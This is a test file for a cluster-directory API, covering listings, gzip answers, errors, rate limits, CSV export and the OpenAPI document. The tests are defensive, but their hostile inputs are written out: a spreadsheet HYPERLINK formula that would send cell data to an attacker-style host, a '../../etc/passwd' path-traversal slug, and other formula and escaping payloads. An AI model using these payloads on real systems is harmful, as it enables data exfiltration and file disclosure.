/**
 * The public API's route handlers, called directly with Request objects,
 * against the demo data: status codes, JSON shapes, the one error format,
 * CORS, the per-address rate limit, the CSV export (encoding, quoting,
 * formula cells, the 10,000-row cap) and the OpenAPI document, which must
 * describe the answers the routes really give.
 */
import { gunzipSync } from "node:zlib";
import { beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { GET as getCluster, OPTIONS as optionsCluster } from "@/app/api/v1/clusters/[slug]/route";
import { GET as exportCsv } from "@/app/api/v1/clusters/export.csv/route";
import { GET as listClusters, OPTIONS as optionsClusters } from "@/app/api/v1/clusters/route";
import { GET as getOpenApi } from "@/app/api/v1/openapi.json/route";
import { getEnv } from "@/lib/env";
import { resetDatabase, testDb } from "@/lib/testing/db";
import { DEMO_CLUSTERS } from "@/prisma/demo/clusters";
import { seedDemoData } from "@/prisma/seed";
import { ZDirectoryEntry, ZDirectoryPage, ZDirectoryQuery } from "@/lib/directory/schemas";
import { MAX_EXPORT_ROWS } from "@/lib/directory/schemas";
import { PRECOMPRESSED_API_PATHS } from "./encoding";
import { ZApiError } from "./errors";
import { apiGet } from "./route";
import { API_RATE_LIMIT, CSV_EXPORT_COST } from "./rate-limit-config";

const db = testDb();
const published = DEMO_CLUSTERS.filter((c) => c.status === "APPROVED");
let ipCounter = 0;
/** A fresh client address per test, so that rate limits of one test do not reach another. */
const freshIp = () => `198.51.100.${++ipCounter}`;

function request(path: string, init: { ip?: string; headers?: Record<string, string>; method?: string } = {}) {
  return new Request(`http://x${path}`, {
    method: init.method ?? "GET",
    headers: { "x-forwarded-for": init.ip ?? freshIp(), ...init.headers },
  });
}
const slugContext = (slug: string) => ({ params: Promise.resolve({ slug }) });

beforeAll(async () => {
  await resetDatabase();
  await seedDemoData(db);
});

describe("GET /api/v1/clusters", () => {
  it("answers a page of the directory in the documented shape, with CORS and absolute links", async () => {
    const response = await listClusters(request("/api/v1/clusters?country=DK&sort=size&perPage=2"));
    expect(response.status).toBe(200);
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    expect(response.headers.get("content-type")).toMatch(/^application\/json/);
    expect(response.headers.get("ratelimit-limit")).toBe(String(API_RATE_LIMIT.points));
    const body = ZDirectoryPage.parse(await response.json());
    expect(body).toMatchObject({ total: 3, page: 1, perPage: 2, totalPages: 2 });
    expect(body.data.map((d) => d.slug)).toEqual(["oresund-biobridge-cluster", "jutland-medtech-collective"]);
    expect(body.data[0]!.url).toBe(`${getEnv().appUrl}/clusters/oresund-biobridge-cluster`);
    expect(body.facets.country.find((f) => f.value === "DK")).toMatchObject({ count: 3, selected: true });
  });

  it("speaks the language asked for by ?lang= or Accept-Language", async () => {
    const byParam = await (await listClusters(request("/api/v1/clusters?country=DK&lang=ru"))).json();
    expect(byParam.data[0].countryName).toBe("Дания");
    const byHeader = await (await listClusters(request("/api/v1/clusters?country=DK", { headers: { "accept-language": "ru-RU,ru;q=0.9" } }))).json();
    expect(byHeader.facets.ecosystem.find((f: { value: string }) => f.value === "health").label).toBe("Здравоохранение");
  });

  it.each([
    ["q=%00%00", "NUL bytes"],
    ["q=%FF%FE%ED%A0%80", "invalid UTF-8 and an encoded surrogate"],
    [`q=${"%D0%B0".repeat(10_000)}`, "10,000 Cyrillic characters"],
    ["q=%22%25%5C%26%7C!%3A*", "quotes, %, \\, &, |, !, :*"],
    ["page=-1&perPage=100000&level=9&country=%27--&sort=%00", "bad numbers and values"],
    ["page=99999", "a page far beyond the end"],
  ])("answers 200 for %s (%s)", async (qs) => {
    const response = await listClusters(request(`/api/v1/clusters?${qs}`));
    expect(response.status).toBe(200);
    const body = ZDirectoryPage.parse(await response.json());
    expect(body.total).toBeGreaterThanOrEqual(0);
  });

  it("answers a repeated query string the same way, in the language of each request", async () => {
    // The route keeps parsed query strings (frozen objects shared by requests); the language is not part of them.
    const path = "/api/v1/clusters?country=DK&sort=name&perPage=2";
    const first = ZDirectoryPage.parse(await (await listClusters(request(path))).json());
    const again = ZDirectoryPage.parse(await (await listClusters(request(path))).json());
    expect(again).toEqual(first);
    const russian = ZDirectoryPage.parse(await (await listClusters(request(path, { headers: { "accept-language": "ru" } }))).json());
    expect(russian.data.map((d) => d.slug)).toEqual(first.data.map((d) => d.slug));
    expect(first.data[0]!.countryName).toBe("Denmark");
    expect(russian.data[0]!.countryName).toBe("Дания");
    const other = ZDirectoryPage.parse(await (await listClusters(request("/api/v1/clusters?country=DK&sort=name&perPage=1"))).json());
    expect(other.data).toHaveLength(1);
  });

  it("answers a CORS preflight", async () => {
    const response = optionsClusters();
    expect(response.status).toBe(204);
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    expect(response.headers.get("access-control-allow-methods")).toBe("GET, OPTIONS");
  });
});

describe("GET /api/v1/clusters: precompressed answers", () => {
  const gzip = { "accept-encoding": "gzip, deflate, br" };
  const bytesOf = async (response: Response) => Buffer.from(await response.arrayBuffer());

  it("is the one precompressed path (next.config.ts labels its answers: lib/api/encoding.ts)", () => {
    expect(PRECOMPRESSED_API_PATHS).toEqual(["/api/v1/clusters"]);
  });

  it("answers gzip that decodes to exactly the plain answer's JSON, with Vary on language and encoding", async () => {
    const path = "/api/v1/clusters?country=DE&lang=ru&perPage=5";
    const plain = await listClusters(request(path));
    const encoded = await listClusters(request(path, { headers: gzip }));
    expect(plain.status).toBe(200);
    expect(encoded.status).toBe(200);
    expect(plain.headers.get("content-encoding")).toBeNull();
    expect(encoded.headers.get("content-encoding")).toBe("gzip");
    for (const response of [plain, encoded]) {
      expect(response.headers.get("vary")).toBe("Accept-Language, Accept-Encoding");
      expect(response.headers.get("content-type")).toBe("application/json");
      expect(response.headers.get("cache-control")).toBe("public, max-age=30");
      expect(response.headers.get("access-control-allow-origin")).toBe("*");
      expect(response.headers.get("ratelimit-limit")).toBe(String(API_RATE_LIMIT.points));
    }
    const plainText = (await bytesOf(plain)).toString("utf8");
    const gzipped = await bytesOf(encoded);
    expect([...gzipped.subarray(0, 2)]).toEqual([0x1f, 0x8b]);
    expect(gunzipSync(gzipped).toString("utf8")).toBe(plainText);
    expect(ZDirectoryPage.parse(JSON.parse(plainText)).data[0]!.countryName).toBe("Германия");
  });

  it.each([
    ["no Accept-Encoding", {}],
    ["identity", { "accept-encoding": "identity" }],
    ["gzip;q=0", { "accept-encoding": "gzip;q=0, deflate" }],
  ])("answers plain JSON to a client that asks for %s", async (_label, headers: Record<string, string>) => {
    const response = await listClusters(request("/api/v1/clusters?country=DK", { headers }));
    expect(response.headers.get("content-encoding")).toBeNull();
    expect(ZDirectoryPage.parse(await response.json()).total).toBe(3);
  });

  it("sends the same gzip bytes for a repeated query, and new ones as soon as the directory changes", async () => {
    const path = "/api/v1/clusters?country=DK&sort=name&perPage=1";
    const first = await bytesOf(await listClusters(request(path, { headers: gzip })));
    expect((await bytesOf(await listClusters(request(path, { headers: gzip })))).equals(first)).toBe(true);
    const slug = JSON.parse(gunzipSync(first).toString("utf8")).data[0].slug as string;
    const before = await db.organization.findUniqueOrThrow({ where: { slug } });
    try {
      await db.organization.update({ where: { slug }, data: { name: "Aaa Gzip Renamed Cluster" } });
      const after = JSON.parse(gunzipSync(await bytesOf(await listClusters(request(path, { headers: gzip })))).toString("utf8"));
      expect(after.data[0]).toMatchObject({ slug, name: "Aaa Gzip Renamed Cluster" });
    } finally {
      await db.organization.update({ where: { slug }, data: { name: before.name } });
    }
  });

  it("gzips its refusals too (429 with Retry-After), since the whole path is labelled gzip", async () => {
    const ip = freshIp();
    for (let i = 0; i < API_RATE_LIMIT.points; i += 1) await listClusters(request("/api/v1/clusters?perPage=1", { ip }));
    const refused = await listClusters(request("/api/v1/clusters?perPage=1", { ip, headers: gzip }));
    expect(refused.status).toBe(429);
    expect(refused.headers.get("retry-after")).toMatch(/^\d+$/);
    expect(refused.headers.get("access-control-allow-origin")).toBe("*");
    expect(refused.headers.get("content-encoding")).toBe("gzip");
    expect(ZApiError.parse(JSON.parse(gunzipSync(await bytesOf(refused)).toString("utf8"))).error.code).toBe("rate_limited");
    const plain = await listClusters(request("/api/v1/clusters?perPage=1", { ip }));
    expect(plain.status).toBe(429);
    expect(plain.headers.get("content-encoding")).toBeNull();
    expect(ZApiError.parse(await plain.json()).error.code).toBe("rate_limited");
  });

  it("gzips the 500 and 503 of a precompressed route, and leaves other routes' answers to Next.js", async () => {
    const failing = (error: Error, options: { precompressed?: boolean }) =>
      apiGet(async () => {
        throw error;
      }, options);
    const outage = Object.assign(new Error("the database system is shutting down"), { code: "P2010" });
    for (const [error, status] of [
      [new Error("boom"), 500],
      [Object.assign(new Error("Code: `57P03`"), { code: "P2010" }), 503],
    ] as const) {
      const response = await failing(error, { precompressed: true })(request("/api/v1/clusters", { headers: gzip }));
      expect(response.status).toBe(status);
      expect(response.headers.get("content-encoding")).toBe("gzip");
      expect(ZApiError.safeParse(JSON.parse(gunzipSync(await bytesOf(response)).toString("utf8"))).success).toBe(true);
    }
    const other = await failing(outage, {})(request("/api/v1/clusters/x", { headers: gzip }));
    expect(other.status).toBe(503);
    expect(other.headers.get("content-encoding")).toBeNull();
    expect(ZApiError.parse(await other.json()).error.code).toBe("unavailable");
  });
});

describe("GET /api/v1/clusters/{slug}", () => {
  it("answers a published cluster", async () => {
    const response = await getCluster(request("/api/v1/clusters/jutland-medtech-collective"), slugContext("jutland-medtech-collective"));
    expect(response.status).toBe(200);
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    const body = ZDirectoryEntry.parse(await response.json());
    expect(body).toMatchObject({ slug: "jutland-medtech-collective", name: "Jutland MedTech Collective", country: "DK" });
    expect(body.url).toBe(`${getEnv().appUrl}/clusters/jutland-medtech-collective`);
  });

  it.each([
    ["an unknown slug", "no-such-cluster"],
    ["a profile waiting for review", DEMO_CLUSTERS.find((c) => c.status === "PENDING")!.slug],
    ["a draft", DEMO_CLUSTERS.find((c) => c.status === "DRAFT")!.slug],
    ["a hostile slug", "../../etc/passwd%00'\"<>"],
    ["a huge slug", "x".repeat(10_000)],
  ])("answers 404 in the error format for %s", async (_label, slug) => {
    const response = await getCluster(request(`/api/v1/clusters/${encodeURIComponent(slug)}`), slugContext(slug));
    expect(response.status).toBe(404);
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    expect(ZApiError.parse(await response.json())).toEqual({
      error: { code: "not_found", message: "No published cluster has this slug." },
    });
  });

  it("answers a CORS preflight", () => {
    expect(optionsCluster().headers.get("access-control-allow-origin")).toBe("*");
  });
});

describe("errors", () => {
  it("turns an unexpected failure into a 500 in the error format, without details", async () => {
    const failing = apiGet(async () => {
      throw new Error("connection to db.internal.example refused: password for user covalent");
    });
    const response = await failing(request("/api/v1/clusters"));
    expect(response.status).toBe(500);
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    const body = ZApiError.parse(await response.json());
    expect(body.error.code).toBe("internal_error");
    expect(JSON.stringify(body)).not.toMatch(/db\.internal|password|covalent/);
  });

  it("answers 503 with Retry-After while the database is unavailable, without details", async () => {
    const failing = apiGet(async () => {
      throw Object.assign(new Error("Database error. Code: `57P03`. Message: `the database system is shutting down`"), { code: "P2010" });
    });
    const response = await failing(request("/api/v1/clusters"));
    expect(response.status).toBe(503);
    expect(response.headers.get("retry-after")).toBe("5");
    const body = ZApiError.parse(await response.json());
    expect(body.error.code).toBe("unavailable");
    expect(JSON.stringify(body)).not.toMatch(/57P03|shutting down/);
  });
});

describe("rate limit", () => {
  it(`refuses request number ${API_RATE_LIMIT.points + 1} of a minute from one address with 429 and Retry-After`, async () => {
    const ip = freshIp();
    const call = () => getCluster(request("/api/v1/clusters/no-such-cluster", { ip }), slugContext("no-such-cluster"));
    for (let i = 0; i < API_RATE_LIMIT.points; i += 1) {
      const response = await call();
      expect(response.status, `request ${i + 1}`).toBe(404);
    }
    const refused = await call();
    expect(refused.status).toBe(429);
    const retryAfter = Number(refused.headers.get("retry-after"));
    expect(Number.isInteger(retryAfter)).toBe(true);
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(retryAfter).toBeLessThanOrEqual(API_RATE_LIMIT.durationSeconds);
    expect(refused.headers.get("access-control-allow-origin")).toBe("*");
    expect(ZApiError.parse(await refused.json()).error.code).toBe("rate_limited");

    // The count lives in PostgreSQL, shared by every app instance.
    const row = await db.rateLimit.findUnique({ where: { key: `api-ip:${ip}` } });
    expect(row?.points).toBeGreaterThanOrEqual(API_RATE_LIMIT.points);

    // Another address is not affected.
    expect((await listClusters(request("/api/v1/clusters?perPage=1"))).status).toBe(200);
  });

  it(`counts a CSV export as ${CSV_EXPORT_COST} requests`, async () => {
    const ip = freshIp();
    const exports = Math.floor(API_RATE_LIMIT.points / CSV_EXPORT_COST);
    for (let i = 0; i < exports; i += 1) {
      const response = await exportCsv(request("/api/v1/clusters/export.csv?country=DK", { ip }));
      expect(response.status).toBe(200);
      await response.text();
    }
    const refused = await exportCsv(request("/api/v1/clusters/export.csv?country=DK", { ip }));
    expect(refused.status).toBe(429);
    expect(refused.headers.get("retry-after")).toMatch(/^\d+$/);
  });
});

/** A small RFC 4180 reader for the tests. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 1;
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) throw new Error("the CSV does not end with CRLF");
  return rows;
}

async function csvOf(path: string) {
  const response = await exportCsv(request(path));
  expect(response.status).toBe(200);
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { response, bytes, rows: parseCsv(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes).replace(/^\uFEFF/, "")) };
}

describe("GET /api/v1/clusters/export.csv", () => {
  it("streams UTF-8 with a byte-order mark, a header row and one row per match, in order", async () => {
    const { response, bytes, rows } = await csvOf("/api/v1/clusters/export.csv?ecosystem=health&sort=size&lang=ru");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="covalent-clusters-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    expect(response.body).toBeInstanceOf(ReadableStream);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...data] = rows;
    expect(header!.slice(0, 5)).toEqual(["slug", "name", "acronym", "country", "countryName"]);
    const health = published.filter((c) => c.ecosystems.includes("health"));
    expect(data).toHaveLength(health.length);
    const col = (name: string) => header!.indexOf(name);
    const sizes = data.map((r) => Number(r[col("membersTotal")]));
    expect(sizes).toEqual([...sizes].sort((a, b) => b - a));
    const oresund = data.find((r) => r[col("slug")] === "oresund-biobridge-cluster")!;
    expect(oresund[col("countryName")]).toBe("Дания");
    expect(oresund[col("ecosystems")]).toBe("Здравоохранение");
    expect(oresund[col("description")]).toMatch(/^Øresund BioBridge Cluster объединяет/);
    expect(oresund[col("url")]).toBe(`${getEnv().appUrl}/clusters/oresund-biobridge-cluster`);
  });

  it("quotes commas, quotes and line breaks, and neutralises formulas", async () => {
    const hostileName = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const org = await db.organization.create({
      data: {
        name: hostileName,
        slug: "formula-test-cluster",
        country: "FR",
        profile: {
          create: {
            status: "APPROVED",
            acronym: "@SUM(1+1)",
            region: "-2+3",
            city: "+33 Lyon",
            descriptionEn: 'Line one, with a comma\nLine "two" in quotes\r\nLine three',
            offers: "Plain offers",
            seeks: "Zanzibarquokka partners",
            publishedAt: new Date(),
          },
        },
      },
    });
    try {
      const { rows } = await csvOf("/api/v1/clusters/export.csv?q=zanzibarquokka");
      const [header, row] = rows;
      expect(rows).toHaveLength(2);
      const cell = (name: string) => row![header!.indexOf(name)];
      expect(cell("name")).toBe(`'${hostileName}`);
      expect(cell("acronym")).toBe("'@SUM(1+1)");
      expect(cell("region")).toBe("'-2+3");
      expect(cell("city")).toBe("'+33 Lyon");
      expect(cell("description")).toBe('Line one, with a comma\nLine "two" in quotes\r\nLine three');
      expect(cell("offers")).toBe("Plain offers");
    } finally {
      await db.organization.delete({ where: { id: org.id } });
    }
  });

  it("lists the rows in the same order as the JSON list, relevance included", async () => {
    for (const qs of ["q=clinical+research", "q=cluster&sort=newest", "ecosystem=digital,health&sort=name"]) {
      const list = ZDirectoryPage.parse(await (await listClusters(request(`/api/v1/clusters?${qs}&perPage=100`))).json());
      const { rows } = await csvOf(`/api/v1/clusters/export.csv?${qs}`);
      expect(list.total, qs).toBeGreaterThan(2);
      expect(rows.slice(1).map((r) => r[0]), qs).toEqual(list.data.map((d) => d.slug));
    }
  });

  it("answers a header row alone when nothing matches", async () => {
    const { rows } = await csvOf("/api/v1/clusters/export.csv?q=%00%22%5C%26%7C!%3A*");
    expect(rows).toHaveLength(1);
  });

  it(`stops at ${MAX_EXPORT_ROWS.toLocaleString("en")} rows`, async () => {
    const extra = MAX_EXPORT_ROWS + 50 - published.length;
    await db.$executeRaw`
      INSERT INTO "Organization" ("id", "name", "slug", "country", "updatedAt")
      SELECT 'bulk_' || i, 'Bulk Test Cluster ' || i, 'bulk-test-' || i, 'DE', now() FROM generate_series(1, ${extra}::int) i`;
    await db.$executeRaw`
      INSERT INTO "ClusterProfile" ("organizationId", "status", "publishedAt", "updatedAt")
      SELECT 'bulk_' || i, 'APPROVED', now(), now() FROM generate_series(1, ${extra}::int) i`;
    try {
      const { rows } = await csvOf("/api/v1/clusters/export.csv?sort=name");
      expect(rows).toHaveLength(MAX_EXPORT_ROWS + 1);
      expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(MAX_EXPORT_ROWS);
    } finally {
      await db.organization.deleteMany({ where: { slug: { startsWith: "bulk-test-" } } });
    }
  }, 120_000);
});

/** The document's component schemas, with references made local, as a zod schema. */
function schemaFromDocument(document: { components: { schemas: Record<string, unknown> } }, name: string) {
  const rewrite = (value: unknown): unknown =>
    JSON.parse(JSON.stringify(value).replaceAll('"#/components/schemas/', '"#/$defs/'));
  const defs = rewrite(document.components.schemas) as Record<string, Record<string, unknown>>;
  return z.fromJSONSchema({ ...defs[name]!, $defs: defs } as never);
}

describe("GET /api/v1/openapi.json", () => {
  it("is an OpenAPI 3.1 document of the three routes, with components from the zod schemas", async () => {
    const response = getOpenApi();
    expect(response.status).toBe(200);
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    const document = await response.json();
    expect(document.openapi).toBe("3.1.0");
    expect(document.info.title).toBeTruthy();
    expect(Object.keys(document.paths).sort()).toEqual([
      "/api/v1/clusters",
      "/api/v1/clusters/export.csv",
      "/api/v1/clusters/{slug}",
    ]);
    expect(Object.keys(document.components.schemas)).toEqual(
      expect.arrayContaining(["DirectoryPage", "DirectoryListItem", "DirectoryFacets", "DirectoryEntry", "Error"]),
    );

    // Every reference points at a component that exists.
    const refs = [...JSON.stringify(document).matchAll(/"\$ref":"([^"]+)"/g)].map((m) => m[1]!);
    expect(refs.length).toBeGreaterThan(5);
    for (const ref of refs) {
      expect(ref).toMatch(/^#\/components\/schemas\//);
      expect(document.components.schemas[ref.replace("#/components/schemas/", "")], ref).toBeDefined();
    }

    // Every query field the route parses is a documented parameter, and nothing else is.
    const list = document.paths["/api/v1/clusters"].get;
    expect(list.parameters.map((p: { name: string }) => p.name).sort()).toEqual([...Object.keys(ZDirectoryQuery.shape), "lang"].sort());
    for (const p of list.parameters) expect(p.in).toBe("query");
    const country = list.parameters.find((p: { name: string }) => p.name === "country");
    expect(country).toMatchObject({ style: "form", explode: true, schema: { type: "array" } });
    const perPage = list.parameters.find((p: { name: string }) => p.name === "perPage");
    expect(perPage.schema).toMatchObject({ type: "integer", minimum: 1, maximum: 100, default: 20 });
    expect(document.paths["/api/v1/clusters/{slug}"].get.responses["404"]).toBeDefined();
    expect(list.responses["429"].headers["Retry-After"]).toBeDefined();
  });

  it("describes what the routes really answer", async () => {
    const document = await getOpenApi().json();

    const page = await (await listClusters(request("/api/v1/clusters?q=clinical&ecosystem=health&perPage=3"))).json();
    expect(page.data.length).toBeGreaterThan(0);
    expect(schemaFromDocument(document, "DirectoryPage").safeParse(page).success).toBe(true);

    const entry = await (await getCluster(request("/api/v1/clusters/oresund-biobridge-cluster"), slugContext("oresund-biobridge-cluster"))).json();
    expect(schemaFromDocument(document, "DirectoryEntry").safeParse(entry).success).toBe(true);

    const missing = await (await getCluster(request("/api/v1/clusters/nope"), slugContext("nope"))).json();
    expect(schemaFromDocument(document, "Error").safeParse(missing).success).toBe(true);

    // And the check can fail: a page without its facets does not pass.
    const withoutFacets = { ...page };
    delete withoutFacets.facets;
    expect(schemaFromDocument(document, "DirectoryPage").safeParse(withoutFacets).success).toBe(false);
  });
});
